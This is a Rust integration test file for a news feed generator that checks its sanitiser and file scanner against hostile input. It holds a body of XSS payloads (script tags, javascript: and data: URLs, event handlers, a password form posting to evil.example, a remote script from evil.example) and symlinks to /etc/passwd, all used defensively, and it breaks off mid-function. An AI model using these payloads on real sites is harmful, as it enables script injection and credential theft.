//! Hostile and broken input, end to end (issue 4; DESIGN.md *Hostile
//! input*): the real binary on throwaway folders holding what a newsroom's
//! folder really receives — script in Markdown, files in the wrong
//! encoding, binaries, links, FIFOs, sockets and devices, very deep and very
//! wide folders, files vanishing mid-scan, names made to escape the output
//! folder, front matter and configuration mistakes — plus a proptest of the
//! decoder and parser on arbitrary bytes, and a replay of the fuzzers'
//! regression inputs. SECURITY.md tabulates what each kind of input gets.
//!
//! Tests that expose a bug are `#[ignore = "bug: …"]`; run them with
//! `cargo test --test hostile -- --ignored`.

mod common;
#[path = "hostile_support/mod.rs"]
mod hostile_support;
#[path = "watch_support/mod.rs"]
mod watch_support;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use hostile_support::{items_in, scan_html, snapshot, toml_story, toml_str, unescape, Kind, Tmp, DATE};

// ======================================================= sanitised story HTML ===

/// Everything a story's body may try, in Markdown and raw HTML.
const HOSTILE_BODY: &str = r##"Intro with <script>alert('inline')</script> and <img src="x.png" onerror="alert('onerror')">.

<script type="text/javascript">alert('block')</script>

[js link](javascript:alert('js')) [JS upper](JaVaScRiPt:alert('JS')) [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vbs](vbscript:msgbox('vbs'))

<a href="java&#x09;script:alert('tab')">tab</a> <a href="&#106;avascript:alert('entity')">entity</a> <a href=" javascript:alert('space')">space</a> <a href="data:text/html,&lt;script&gt;alert('data2')&lt;/script&gt;">data2</a>

<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="data img"> <img src="javascript:alert('imgsrc')" alt="js img">

<iframe src="https://evil.example/"></iframe>

<object data="x.swf"><param name="movie" value="x.swf"></object>

<embed src="x.swf">

<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert('btn')">go</button><textarea>t</textarea><select><option>o</option></select></form>

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<style>body { display: none }</style>

<p style="background:url(javascript:alert('css'))" onclick="alert('click')" onmouseover="alert('over')">styled</p>

<svg onload="alert('svg')"><script>alert('svg2')</script></svg>

<math><mtext><script>alert('math')</script></mtext></math>

<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">

<details open ontoggle="alert('toggle')"><summary>s</summary>d</details>

<video src="v.mp4" poster="javascript:alert('poster')" onerror="alert('video')"></video>

<frameset><frame src="https://evil.example/"></frameset>

<applet code="x.class"></applet>

<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></p></noscript>

<a href="https://example.org/" target="_blank">external</a>

<figure>
<img src="photo.jpg" srcset="photo-2x.jpg 2x, /img/photo-640.jpg 640w" alt="照片" width="640">
<figcaption>图片说明</figcaption>
</figure>

| 栏目 | 数量 |
|------|------|
| 要闻 | 3 |

> 引用的话

Some `inline code` and:

```rust
fn main() { println!("<script>"); }
```

## 小标题

- one
- two

1. first
2. second

~~struck~~ *em* **strong**

A footnote reference[^1].

[^1]: The footnote text.

<SCRIPT SRC=//evil.example/x.js></SCRIPT>
"##;

/// Element names that must never reach a feed.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "param", "applet", "form", "input", "button",
    "textarea", "select", "option", "meta", "base", "link", "svg", "math", "noscript",
];

/// Attributes that hold a URL a reader may follow or load.
const URL_ATTRIBUTES: &[&str] = &["href", "src", "poster", "cite", "action", "formaction", "background", "longdesc"];

/// The scheme of a URL as a browser reads it (tabs and line breaks
/// removed, surrounding space and controls trimmed), `None` when relative.
fn scheme_of(url: &str) -> Option<String> {
    let cleaned: String = url.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let cleaned = cleaned.trim_matches(|c: char| c <= ' ');
    let end = cleaned.find([':', '/', '?', '#'])?;
    (cleaned[end..].starts_with(':') && end > 0).then(|| cleaned[..end].to_ascii_lowercase())
}

/// Asserts that one content HTML carries nothing a reader could run: no
/// forbidden element, no event handler or style, no URL with a scheme
/// other than http(s), mailto and tel — and, when `absolute`, no relative
/// URL either (the contract makes them absolute).
#[track_caller]
pub(crate) fn assert_harmless(html: &str, context: &str, absolute: bool) {
    let (tags, _) = scan_html(html);
    for tag in &tags {
        assert!(!FORBIDDEN_ELEMENTS.contains(&tag.name.as_str()), "{context}: <{}> survived in {html}", tag.name);
        for (attr, value) in &tag.attrs {
            assert!(!attr.starts_with("on"), "{context}: event handler {attr}= survived on <{}>", tag.name);
            assert!(
                !matches!(attr.as_str(), "style" | "formaction" | "action" | "http-equiv" | "xmlns" | "xlink:href"),
                "{context}: {attr}= survived on <{}>",
                tag.name
            );
            let value = unescape(value);
            let urls: Vec<&str> = if attr == "srcset" {
                value.split(',').filter_map(|c| c.split_whitespace().next()).collect()
            } else if URL_ATTRIBUTES.contains(&attr.as_str()) {
                vec![value.as_str()]
            } else {
                // Plain attributes (alt, title, class…) may hold any text.
                continue;
            };
            for url in urls {
                match scheme_of(url) {
                    Some(scheme) => assert!(
                        ["http", "https", "mailto", "tel"].contains(&scheme.as_str()),
                        "{context}: <{} {attr}={url:?}> has the scheme {scheme:?}",
                        tag.name
                    ),
                    None => assert!(
                        !absolute || url.starts_with("//"),
                        "{context}: <{} {attr}={url:?}> was not made absolute",
                        tag.name
                    ),
                }
            }
        }
    }
}

/// Script and style bodies go with their elements: none of their text is
/// left behind in a story body.
#[track_caller]
fn assert_no_script_text(body_html: &str, context: &str) {
    let (_, text) = scan_html(body_html);
    assert!(!text.contains("alert("), "{context}: script text survived as text: {text}");
    assert!(!text.contains("display: none"), "{context}: style text survived: {text}");
}

/// Every kind of active content in a Markdown story is removed from the
/// content of all three feeds (and from the index page), while the markup a
/// news story needs — figures with captions, images with `srcset`, tables,
/// quotes, code, lists, footnotes, links — survives, with relative URLs
/// made absolute and `rel="noopener noreferrer"` on links.
#[test]
fn story_html_is_sanitised_in_every_feed_and_news_markup_survives() {
    let t = Tmp::new("language = \"zh-CN\"");
    let front = format!(
        "+++\ntitle = {}\nkicker = {}\nsubtitle = {}\nsummary = {}\ndate = {DATE}\nlang = {}\ntags = [{}]\nauthor = {}\n+++\n\n",
        toml_str("Hostile <script>alert('title')</script>"),
        toml_str("<img src=x onerror=alert('kicker')>"),
        toml_str("<iframe src=//evil.example></iframe>"),
        toml_str("<script>alert('summary')</script> & more"),
        toml_str("zh\"><script>alert('lang')</script>"),
        toml_str("<script>alert('tag')</script>"),
        toml_str("<b onmouseover=alert('author')>A</b>"),
    );
    t.write("hostile.md", format!("{front}{HOSTILE_BODY}"));
    t.build().assert_code(0);
    let items = t.items();
    let title = "Hostile <script>alert('title')</script>";
    for item in items.by_title(title) {
        let context = format!("{} content", item.format);
        assert_harmless(&item.content, &context, true);
        let html = &item.content;
        let body = html.split_once("</header>").map_or(html.as_str(), |(_, body)| body);
        assert_no_script_text(body, &context);
        // What a news story needs is still there.
        for keep in [
            "<figure>",
            "<figcaption>图片说明</figcaption>",
            "<table>",
            "<th>栏目</th>",
            "<td>要闻</td>",
            "<blockquote>",
            "<code>inline code</code>",
            "<pre><code",
            "&lt;script&gt;", // code shown as text
            "<h2>小标题</h2>",
            "<ul>",
            "<ol>",
            "<li>first</li>",
            "<del>struck</del>",
            "<em>em</em>",
            "<strong>strong</strong>",
            "class=\"footnote-reference\"",
            "class=\"footnote-definition\"",
            "The footnote text.",
            "alt=\"照片\"",
            "src=\"https://news.example.com/hostile/photo.jpg\"",
            "srcset=\"https://news.example.com/hostile/photo-2x.jpg 2x, https://news.example.com/img/photo-640.jpg 640w\"",
            "href=\"https://example.org/\"",
            "rel=\"noopener noreferrer\"",
        ] {
            assert!(html.contains(keep), "{context}: {keep:?} is missing from\n{html}");
        }
        assert!(!html.contains("target="), "{context}: target= survived");
        // The headline frame is escaped text, not markup.
        assert!(
            html.contains("<p class=\"kicker\">&lt;img src=x onerror=alert(&#39;kicker&#39;)&gt;</p>"),
            "{context}: {html}"
        );
        assert!(html.contains("<h1>Hostile &lt;script&gt;"), "{context}: {html}");
        // Links the sanitiser refused are left as text, never as javascript:/data:.
        for word in ["js link", "JS upper", "data link", "external"] {
            assert!(html.contains(word), "{context}: the link text {word:?} is gone: {html}");
        }
        // A summary is text: the RSS description is escaped HTML of it.
        assert!(!item.summary.to_ascii_lowercase().contains("<script") || item.format != "rss");
    }
    // The raw XML never carries an unescaped element from story text.
    for file in ["rss.xml", "atom.xml"] {
        let raw = std::fs::read_to_string(t.out().join(file)).expect("read");
        assert!(!raw.to_ascii_lowercase().contains("<script"), "{file} carries a raw <script");
        assert!(!raw.to_ascii_lowercase().contains("<iframe"), "{file} carries a raw <iframe");
    }
    // RSS description is HTML: the summary's markup is escaped there.
    let rss = &items.by_title(title)[0];
    assert!(rss.summary.contains("&lt;script&gt;"), "RSS description must escape the summary: {}", rss.summary);
    // The index page shows the same fields (kicker, headline, summary, lang).
    let index = std::fs::read_to_string(t.out().join("index.html")).expect("index.html");
    let (tags, text) = scan_html(&index);
    let allowed = [
        "html", "head", "meta", "title", "link", "style", "body", "header", "h1", "p", "nav", "h2", "ul", "li", "a",
        "main", "article", "h3", "time",
    ];
    for tag in &tags {
        assert!(allowed.contains(&tag.name.as_str()), "index.html: unexpected <{}>", tag.name);
        assert!(tag.attrs.iter().all(|(a, _)| !a.starts_with("on")), "index.html: event handler on <{}>", tag.name);
        for (attr, value) in &tag.attrs {
            if attr == "href" {
                let v = unescape(value).to_ascii_lowercase();
                assert!(!v.starts_with("javascript:") && !v.starts_with("data:"), "index.html href {v}");
            }
        }
    }
    assert_eq!(tags.iter().filter(|t| t.name == "style").count(), 1, "only the page's own style block");
    assert!(unescape(&text).contains("<script>alert('title')"), "the title is shown as text on the index page");
}

/// Markdown that tries to smuggle markup through link and image syntax,
/// autolinks, reference definitions and HTML entities gets the same.
#[test]
fn markdown_link_and_image_syntax_cannot_smuggle_script() {
    let t = Tmp::new("");
    let body = r#"[a](javascript:alert(1)) [b]( javascript:alert(2) "t") [c](<javascript:alert(3)>) ![d](javascript:alert(4))
![e](data:image/png;base64,iVBORw0KGgo=) <javascript:alert(5)> [f][ref] [g](&#x6A;avascript:alert(6))
[h](java%0ascript:alert(7)) [i](//evil.example/x) [j](./ok.html "x\" onmouseover=\"alert(8)")

[ref]: javascript:alert(9)
"#;
    t.write("links.md", toml_story("Links", body));
    t.build().assert_code(0);
    for item in t.items().by_title("Links") {
        assert_harmless(&item.content, &format!("{} content", item.format), true);
        assert!(!item.content.to_ascii_lowercase().contains("href=\"javascript:"), "{}", item.content);
        assert!(item.content.contains("href=\"https://news.example.com/links/ok.html\""), "{}", item.content);
    }
}

// ================================================================ encodings ===

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian { vec![0xFE, 0xFF] } else { vec![0xFF, 0xFE] };
    for unit in text.encode_utf16() {
        out.extend(if big_endian { unit.to_be_bytes() } else { unit.to_le_bytes() });
    }
    out
}

/// Every feed file under `out`, as text (the index page too).
fn all_output_text(out: &Path) -> String {
    let mut text = String::new();
    for path in watch_support::walk(out) {
        text.push_str(&std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display())));
    }
    text
}

/// UTF-8 with a BOM, UTF-16 LE and BE with a BOM, and GB18030 (what
/// Chinese newsroom tools on Windows still save) are all published with the
/// right text; only the GB18030 file gets a warning, naming it.
#[test]
fn bom_utf16_and_gb18030_files_are_published_and_gb18030_is_warned() {
    let t = Tmp::new("");
    let story = |title: &str| {
        format!("+++\ntitle = \"{title}\"\ndate = {DATE}\ntags = [\"八八战略\"]\n+++\n\n本报讯 {title}的正文。\r\n")
    };
    t.write("bom.md", [b"\xEF\xBB\xBF".as_slice(), story("永康日报 BOM").as_bytes()].concat());
    t.write("le.md", utf16(&story("永康日报 UTF-16LE"), false));
    t.write("be.md", utf16(&story("永康日报 UTF-16BE"), true));
    let gbk_text = story("永康日报 GB18030");
    let (gbk, _, unmappable) = encoding_rs::GB18030.encode(&gbk_text);
    assert!(!unmappable);
    assert!(std::str::from_utf8(&gbk).is_err(), "the GB18030 test file must not be valid UTF-8");
    t.write("gbk.md", &gbk);
    // Latin-1 "Élève" happens to be valid GB18030: read as such, with the warning.
    t.write(
        "eleve.md",
        [format!("+++\ntitle = \"Eleve\"\ndate = {DATE}\n+++\n\n").as_bytes(), b"\xC9l\xE8ve\n"].concat(),
    );
    let run = t.build();
    run.assert_code(0);
    let items = t.items();
    assert_eq!(
        items.titles(),
        ["Eleve", "永康日报 BOM", "永康日报 GB18030", "永康日报 UTF-16BE", "永康日报 UTF-16LE"],
        "{}",
        run.stderr
    );
    for item in items.all().filter(|i| i.title != "Eleve") {
        assert!(item.content.contains("本报讯"), "{}: {}", item.format, item.content);
        assert!(!item.content.contains('\u{FEFF}') && !item.title.contains('\u{FEFF}'), "a BOM leaked: {item:?}");
    }
    for name in ["gbk.md", "eleve.md"] {
        let warnings = run.lines_naming(name);
        assert_eq!(warnings.len(), 1, "one warning naming {name}:\n{}", run.stderr);
        assert!(warnings[0].starts_with("warning:"), "{}", warnings[0]);
        assert!(warnings[0].contains("GB18030"), "the warning says how the file was read: {}", warnings[0]);
    }
    for quiet in ["bom.md", "le.md", "be.md"] {
        assert!(run.lines_naming(quiet).is_empty(), "{quiet} is fine and must not be mentioned:\n{}", run.stderr);
    }
    let all = all_output_text(&t.out());
    assert!(!all.contains('\u{FFFD}'), "a replacement character reached the output");
    assert!(t.out().join("tags/ba-ba-zhan-lue/rss.xml").is_file(), "the GB18030 tag makes the same term feed");
}

/// Bytes that are neither UTF-8 (with or without BOM), UTF-16 nor clean
/// GB18030 are rejected, naming the file; nothing with U+FFFD is published.
#[test]
fn undecodable_files_are_rejected_naming_the_file_and_no_replacement_character_is_published() {
    let t = Tmp::new("");
    t.write("good.md", toml_story("Good", "正文"));
    let front = format!("+++\ntitle = \"Bad\"\ndate = {DATE}\n+++\n\n");
    let bad: &[(&str, Vec<u8>)] = &[
        // 0xFF is not a GB18030 lead byte; 0x80 0xFF neither.
        ("ff.md", [front.as_bytes(), b"text \xFF\xFF end\n"].concat()),
        // Windows-1252 "Café résumé": É9 followed by a space is not GB18030.
        ("latin1.md", [front.as_bytes(), b"Caf\xE9 r\xE9sum\xE9\n"].concat()),
        // A BOM promises UTF-8: no fallback to GB18030 after it.
        ("bom-bad.md", [b"\xEF\xBB\xBF".as_slice(), front.as_bytes(), b"\xC4\xE3\xBA\xC3 \xFF\n"].concat()),
        // UTF-16 with a lone surrogate.
        ("lone-surrogate.md", {
            let mut b = utf16(&front, false);
            b.extend([0x00, 0xD8, 0x41, 0x00]);
            b
        }),
        // UTF-16 cut in the middle of a code unit.
        ("odd-utf16.md", {
            let mut b = utf16(&front, true);
            b.push(0x41);
            b
        }),
        // Truncated GB18030 four-byte sequence at the end.
        ("truncated-gb.md", [front.as_bytes(), b"\xC4\xE3\x81\x30"].concat()),
    ];
    for (name, bytes) in bad {
        t.write(name, bytes);
    }
    let run = t.build();
    run.assert_code(1);
    for (name, _) in bad {
        let line = run.rejection(name);
        assert!(
            line.contains("UTF-8") || line.contains("UTF-16") || line.contains("GB18030"),
            "{name}: the message says what encodings are accepted: {line}"
        );
        assert!(line.contains(" — "), "{name}: a hint follows: {line}");
    }
    assert_eq!(t.items().titles(), ["Good"]);
    assert!(!all_output_text(&t.out()).contains('\u{FFFD}'), "a replacement character reached the output");
}

/// CRLF and lone-CR line endings work everywhere: front matter fences
/// (TOML and YAML), keys, the title line of a text story, paragraphs.
#[test]
fn crlf_and_lone_cr_files_work_including_front_matter_fences() {
    let t = Tmp::new("");
    let toml =
        "+++\ntitle = \"TOML NL\"\ndate = 2024-03-07\ntags = [\"a\", \"b\"]\n+++\n\nFirst para.\n\nSecond para.\n";
    let yaml = "---\ntitle: YAML NL\ndate: 2024-03-07\ntags:\n  - a\n  - b\n---\n\nFirst para.\n\nSecond para.\n";
    let text = "Text NL\n\nFirst para\nwrapped.\n\nSecond para.\n";
    for (ending, label) in [("\r\n", "CRLF"), ("\r", "CR")] {
        let convert = |s: &str, title: &str, new: &str| s.replace(title, new).replace('\n', ending);
        t.write(&format!("toml-{label}.md"), convert(toml, "TOML NL", &format!("TOML {label}")));
        t.write(&format!("yaml-{label}.md"), convert(yaml, "YAML NL", &format!("YAML {label}")));
        t.write(&format!("text-{label}.txt"), convert(text, "Text NL", &format!("Text {label}")));
        // UTF-16 with CRLF too.
        t.write(&format!("utf16-{label}.md"), utf16(&convert(toml, "TOML NL", &format!("UTF-16 {label}")), false));
    }
    let run = t.build();
    run.assert_code(0);
    let items = t.items();
    assert_eq!(
        items.titles(),
        ["TOML CR", "TOML CRLF", "Text CR", "Text CRLF", "UTF-16 CR", "UTF-16 CRLF", "YAML CR", "YAML CRLF"],
        "{}",
        run.stderr
    );
    for item in items.all() {
        let c = &item.content;
        assert!(!c.contains('\r') && !item.title.contains('\r'), "{}: a CR survived: {c:?}", item.format);
        assert!(!c.contains("+++") && !c.contains("---") && !c.contains("title"), "front matter leaked: {c}");
        assert!(c.contains("<p>First para") && c.contains("<p>Second para.</p>"), "{}: {c}", item.format);
        if !item.title.starts_with("Text") {
            let mut tags = item.tags.clone();
            tags.sort();
            assert_eq!(tags, ["a", "b"], "{}: {item:?}", item.format);
        } else {
            assert!(!c.contains(&item.title), "the title line is not repeated: {c}");
        }
    }
}

// ======================================================== limits, odd files ===

/// `max_article_bytes` is a hard cap: a file of exactly the cap is read, one
/// byte more is rejected with a message naming the file, its size and the
/// setting; the rest is published.
#[test]
fn files_over_max_article_bytes_are_rejected_at_the_exact_boundary() {
    let t = Tmp::new("max_article_bytes = 1000");
    let exact = |title: &str, len: usize| {
        let mut s = toml_story(title, "");
        s.push_str(&"x".repeat(len - s.len()));
        assert_eq!(s.len(), len);
        s
    };
    t.write("at-limit.md", exact("At limit", 1000));
    t.write("over-limit.md", exact("Over limit", 1001));
    // Multi-byte text counts in bytes, not characters.
    let mut cjk = toml_story("CJK over", "");
    while cjk.len() <= 1000 {
        cjk.push('字');
    }
    t.write("cjk-over.md", &cjk);
    let run = t.build();
    run.assert_code(1);
    for name in ["over-limit.md", "cjk-over.md"] {
        let line = run.rejection(name);
        assert!(line.contains("1000") && line.contains("max_article_bytes"), "{name}: {line}");
    }
    assert!(run.lines_naming("at-limit.md").is_empty(), "{}", run.stderr);
    assert_eq!(t.items().titles(), ["At limit"]);
}

/// Files with NUL bytes are binary: rejected, named. A PNG saved as `.md`,
/// a NUL after a UTF-8 BOM, a NUL late in a long file.
#[test]
fn binary_files_are_rejected_naming_the_file() {
    let t = Tmp::new("");
    t.write("good.md", toml_story("Good", "x"));
    let png: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";
    t.write("photo.md", png);
    t.write("nul.md", format!("{}\0after", toml_story("Nul", "before")));
    t.write("bom-nul.txt", [b"\xEF\xBB\xBFTitle\n\nbody \0".as_slice()].concat());
    t.write("late-nul.md", format!("{}{}\0", toml_story("Late", ""), "y".repeat(100_000)));
    // UTF-16 without a byte-order mark: ASCII text in it is half NUL bytes.
    t.write("utf16-no-bom.md", &utf16(&toml_story("No BOM", "x"), false)[2..]);
    let run = t.build();
    run.assert_code(1);
    for name in ["photo.md", "nul.md", "bom-nul.txt", "late-nul.md", "utf16-no-bom.md"] {
        let line = run.rejection(name);
        assert!(line.contains("binary"), "{name}: {line}");
    }
    assert_eq!(t.items().titles(), ["Good"]);
}

/// A NUL *character* in UTF-16 text (two zero bytes that are a code unit)
/// never reaches a feed: XML cannot carry it.
#[test]
fn a_nul_character_in_utf16_text_never_reaches_a_feed() {
    let t = Tmp::new("");
    t.write("u16.md", utf16(&toml_story("U16\0nul", "a\0b"), false));
    let run = t.build();
    assert!(matches!(run.code, Some(0 | 1)), "{run:?}");
    // Either rejected as binary or published without the NUL; the feeds parse.
    let items = t.items();
    for item in items.all() {
        assert!(!item.title.contains('\0') && !item.content.contains('\0'), "{item:?}");
    }
}

fn symlink(target: impl AsRef<Path>, link: impl AsRef<Path>) {
    let link = link.as_ref();
    std::fs::create_dir_all(link.parent().expect("parent")).expect("mkdir");
    std::os::unix::fs::symlink(target, link).unwrap_or_else(|e| panic!("symlink {}: {e}", link.display()));
}

/// A link to a file or folder outside the articles folder is rejected,
/// naming the link; a link inside is followed; a dangling link and a chain
/// of links that loops are named, and the scan finishes.
#[test]
fn symlinks_outside_are_rejected_inside_followed_and_broken_ones_named() {
    let t = Tmp::new("");
    let outside = t.root().join("outside");
    std::fs::create_dir_all(&outside).expect("mkdir");
    std::fs::write(outside.join("secret.md"), toml_story("SECRET outside", "secret text")).expect("write");
    t.write("good.md", toml_story("Good", "x"));
    t.write("real/target.md", toml_story("Target", "x"));
    symlink(outside.join("secret.md"), t.a("outside-abs.md"));
    symlink("../outside/secret.md", t.a("outside-rel.md"));
    symlink("../../outside", t.a("sub/outdir"));
    symlink("/etc/passwd", t.a("passwd.md"));
    symlink("/etc", t.a("etc"));
    symlink("real/target.md", t.a("inside.md"));
    symlink("nothing-here.md", t.a("dangling.md"));
    symlink("loop-b.md", t.a("loop-a.md"));
    symlink("loop-a.md", t.a("loop-b.md"));
    symlink("..", t.a("sub/up")); // the articles folder itself: a loop
    symlink(".", t.a("here"));
    let run = t.build();
    run.assert_code(1);
    for name in ["outside-abs.md", "outside-rel.md", "sub/outdir", "passwd.md", "articles/etc"] {
        let line = run.rejection(name);
        assert!(line.contains("outside the articles folder"), "{name}: {line}");
    }
    for name in ["dangling.md", "loop-a.md", "loop-b.md"] {
        let line = run.rejection(name);
        assert!(line.contains("symlink"), "{name}: {line}");
    }
    assert!(!run.stderr.contains("is also used by"), "nothing is read twice:\n{}", run.stderr);
    let items = t.items();
    assert_eq!(items.titles(), ["Good", "Target", "Target"], "{}", run.stderr);
    assert!(items.rss.iter().any(|i| i.link == "https://news.example.com/inside/"), "the inside link is published");
    let all = all_output_text(&t.out());
    assert!(!all.contains("SECRET") && !all.contains("secret text") && !all.contains("root:"), "outside text leaked");
}

/// Bug: a symlink to a folder that is an ancestor of itself, below the
/// articles folder (`a/b/up -> ..`), is walked once: every story under `a/`
/// is read a second time through the loop and reported as a duplicate id,
/// so a tree of valid stories exits 1.
#[test]
fn a_symlink_loop_to_a_parent_folder_below_the_root_reads_nothing_twice() {
    let t = Tmp::new("");
    t.write("a/b/story.md", toml_story("Story", "x"));
    symlink("..", t.a("a/b/up"));
    symlink(".", t.a("a/self"));
    let run = t.build();
    assert!(!run.stderr.contains("is also used by"), "a loop made a duplicate:\n{}", run.stderr);
    run.assert_code(0);
    assert_eq!(t.items().titles(), ["Story"]);
}

fn mkfifo(path: &Path) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    watch_support::run(std::process::Command::new("mkfifo").arg(path));
}

/// Creates a character device like /dev/zero (reads never end) when the
/// test runs as root; `false` (and a note on stderr) where it cannot.
fn mknod_zero(path: &Path) -> bool {
    let ok = std::process::Command::new("mknod")
        .arg(path)
        .args(["c", "1", "5"])
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        eprintln!("note: mknod is not permitted here (not root?); the device-file case is skipped");
    }
    ok
}

/// FIFOs, sockets and device files named like stories never hang `build`
/// or `check`: each is rejected, named, as not a regular file, and the
/// rest is published. (A FIFO would block a reader forever; /dev/zero
/// would never end.)
#[test]
fn fifos_sockets_and_devices_never_hang_a_build() {
    let t = Tmp::new("");
    t.write("good.md", toml_story("Good", "x"));
    mkfifo(&t.a("fifo.md"));
    mkfifo(&t.a("sub/fifo.txt"));
    let _socket = std::os::unix::net::UnixListener::bind(t.a("socket.md")).expect("bind a unix socket");
    let device = mknod_zero(&t.a("zero.md"));
    symlink("fifo.md", t.a("link-to-fifo.md"));
    let mut odd = vec!["fifo.md", "sub/fifo.txt", "socket.md", "link-to-fifo.md"];
    if device {
        odd.push("zero.md");
    }
    for command in ["build", "check"] {
        let run = t.run(command, &[], Duration::from_secs(30));
        run.assert_code(1);
        assert!(run.took < Duration::from_secs(10), "{command} took {:?}", run.took);
        for name in &odd {
            let line = run.rejection(name);
            assert!(line.contains("not a regular file"), "{command} {name}: {line}");
        }
    }
    assert_eq!(t.items().titles(), ["Good"]);
}

/// The same odd files, and symlink loops and dangling links, never hang
/// `watch` (OS notifications or polling): the first build finishes, odd
/// files created while it runs are passed over, and later stories are
/// published.
#[test]
fn fifos_sockets_devices_and_link_loops_never_hang_watch() {
    for poll in [false, true] {
        let site = watch_support::Site::new("");
        site.write("good.md", &watch_support::story("Good", DATE, "x"));
        mkfifo(&site.a("fifo.md"));
        let _socket = std::os::unix::net::UnixListener::bind(site.a("socket.md")).expect("bind");
        mknod_zero(&site.a("zero.md"));
        symlink("nothing.md", site.a("dangling.md"));
        symlink("..", site.a("sub/up"));
        symlink("loop-b.md", site.a("loop-a.md"));
        symlink("loop-a.md", site.a("loop-b.md"));
        let args: &[&str] = if poll { &["--poll", "50"] } else { &[] };
        let mut daemon = site.start(args);
        daemon.wait("the first build publishes the good story", || site.all_feeds_list(&["Good"]));
        // Odd files arriving while it runs.
        mkfifo(&site.a("late-fifo.md"));
        mkfifo(&site.a("sub/late-fifo.txt"));
        let _late_socket = std::os::unix::net::UnixListener::bind(site.a("late-socket.md")).expect("bind");
        mknod_zero(&site.a("late-zero.md"));
        symlink("late-fifo.md", site.a("late-link.md"));
        std::thread::sleep(Duration::from_millis(200));
        site.write("fresh.md", &watch_support::story("Fresh", DATE, "y"));
        daemon.wait("a story written after the odd files is published", || site.all_feeds_list(&["Fresh", "Good"]));
        assert!(daemon.alive(), "poll={poll}: the daemon died:\n{}", daemon.log());
        let (status, took) = daemon.stop_with("TERM", Duration::from_secs(5));
        assert!(status.is_some_and(|s| s.success()), "poll={poll}: no clean exit after {took:?}:\n{}", daemon.log());
    }
}

/// Bug: deeply nested blocks make sanitising quadratic (html5ever, under
/// ammonia, walks the stack of open elements for each new one), so one
/// small story stalls `build` and `watch` for minutes: 100,000 `>` (a
/// 100 KB Markdown file, nested quotes) takes about 50 s in a release
/// build and more than 2 minutes in a debug one; 20,000 `<ul><li>` (160 KB)
/// about 6 s in release. Under the default 10 MiB cap a single file can
/// stall the daemon for hours, and a signal cannot interrupt it. A story
/// like this must be published (flattened) or rejected, in moments.
#[test]
fn deeply_nested_stories_are_published_or_rejected_quickly() {
    let t = Tmp::new("");
    t.write("good.md", toml_story("Good", "x"));
    t.write("quotes.md", toml_story("Quotes", &format!("{} deep", ">".repeat(100_000))));
    t.write("lists.md", toml_story("Lists", &"<ul><li>".repeat(20_000)));
    t.write("divs.md", toml_story("Divs", &format!("{}deep{}", "<div>".repeat(50_000), "</div>".repeat(50_000))));
    let run = t.run("build", &[], Duration::from_secs(20));
    assert!(run.code.is_some() && run.took < Duration::from_secs(10), "build took {:?} (killed at 20 s)", run.took);
    assert!(t.items().titles().contains(&"Good".to_owned()));
}

/// Folders nested 200 deep: a story at the bottom is published by `build`,
/// and by `watch` when it appears while the daemon runs.
#[test]
fn a_story_200_folders_deep_is_published_by_build_and_watch() {
    let deep: String = (0..200).map(|i| format!("d{i}/")).collect();
    let t = Tmp::new("");
    t.write(&format!("{deep}bottom.md"), toml_story("Bottom", "x"));
    t.build().assert_code(0);
    assert_eq!(t.items().titles(), ["Bottom"]);
    assert!(t.items().rss[0].link.ends_with("/bottom/"));

    let site = watch_support::Site::new("");
    std::fs::create_dir_all(site.a(&deep)).expect("mkdir deep");
    site.write("top.md", &watch_support::story("Top", DATE, "x"));
    let daemon = site.start(&[]);
    daemon.wait("the first build", || site.all_feeds_list(&["Top"]));
    site.write(&format!("{deep}late.md"), &watch_support::story("Late", DATE, "y"));
    daemon.wait("a story written 200 folders down is published", || site.all_feeds_list(&["Late", "Top"]));
}

/// 100,000 small stories in one folder: `build` reads them all and
/// publishes the newest `limit`, newest first, in bounded time (under
/// about 20 s in a debug build on two cores).
#[test]
fn a_hundred_thousand_files_in_one_folder_build_and_the_newest_limit_are_published() {
    const N: usize = 100_000;
    let t = Tmp::new("limit = 50");
    let base = chrono::DateTime::parse_from_rfc3339("2024-01-01T00:00:00+08:00").expect("date");
    let started = Instant::now();
    for i in 0..N {
        let date = (base + chrono::Duration::minutes(i as i64)).to_rfc3339();
        let text = format!("+++\ntitle = \"Story {i:06}\"\ndate = {date}\n+++\n\nBody {i}.\n");
        std::fs::write(t.a(&format!("s{i:06}.md")), text).expect("write");
    }
    let written = started.elapsed();
    let run = t.run("build", &["-q"], Duration::from_secs(120));
    eprintln!("100,000 files: written in {written:?}, built in {:?}", run.took);
    run.assert_code(0);
    let items = t.items();
    let want: Vec<String> = (0..50).map(|k| format!("Story {:06}", N - 1 - k)).collect();
    let got: Vec<String> = items.rss.iter().map(|i| i.title.clone()).collect();
    assert_eq!(got, want, "the newest 50, newest first");
    assert_eq!(items.json.len(), 50);
    assert!(run.took < Duration::from_secs(60), "build of 100,000 files took {:?}", run.took);
}

// ================================================= files vanishing mid-scan ===

/// Creates and deletes story files as fast as it can for two seconds
/// under a running `watch` (so some vanish between the event, the listing
/// and the read, and some are read half-written), makes whole folders of
/// them appear and disappear, then removes what is left and writes
/// `final.md`. Returns the number of rounds.
fn churn(site: &watch_support::Site) -> usize {
    std::fs::create_dir_all(site.a("churn")).expect("mkdir");
    let until = Instant::now() + Duration::from_secs(2);
    let mut i = 0usize;
    while Instant::now() < until {
        let p = site.a(&format!("churn/c{}.md", i % 16));
        let _ = std::fs::write(&p, watch_support::story(&format!("Churn {i}"), DATE, "x"));
        if i % 3 == 0 {
